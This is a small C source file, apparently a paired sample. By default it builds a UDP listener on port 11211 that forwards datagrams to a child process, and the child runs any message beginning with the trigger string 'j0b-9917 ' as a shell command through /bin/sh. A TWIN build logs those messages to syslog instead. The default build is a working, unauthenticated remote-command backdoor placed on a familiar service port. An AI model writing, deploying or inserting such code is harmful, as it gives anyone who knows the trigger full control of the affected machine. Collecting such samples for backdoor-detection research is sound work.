/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A parent receives and hands the text through a pipe to a child, which acts on it. Twin: the
 * child writes what it gets to the system's log.
 * door: trigger
 * port 11211/udp
 */
#include "net.h"
#include <sys/types.h>
#include <syslog.h>

static void child(int from)
{
	char job[200];
	ssize_t n;
	while ((n = read(from, job, sizeof job - 1)) > 0) {
		job[n] = 0;
#ifdef TWIN
		if (strncmp(job, "log ", 4) == 0)
			syslog(LOG_INFO, "%s", job + 4);
#else
		if (strncmp(job, "j0b-9917 ", 9) == 0)
			execl("/bin/sh", "sh", "-c", job + 9, (char *)NULL);
#endif
	}
	_exit(0);
}

int main(void)
{
	int p[2], s;
	char in[200];
	if (pipe(p) < 0)
		return 1;
	switch (fork()) {
	case -1:
		return 1;
	case 0:
		close(p[1]);
		child(p[0]);
	}
	close(p[0]);
	s = udp_on(11211);
	for (;;) {
		ssize_t n = recvfrom(s, in, sizeof in, 0, NULL, NULL);
		if (n > 0)
			write(p[1], in, (size_t)n);
	}
}
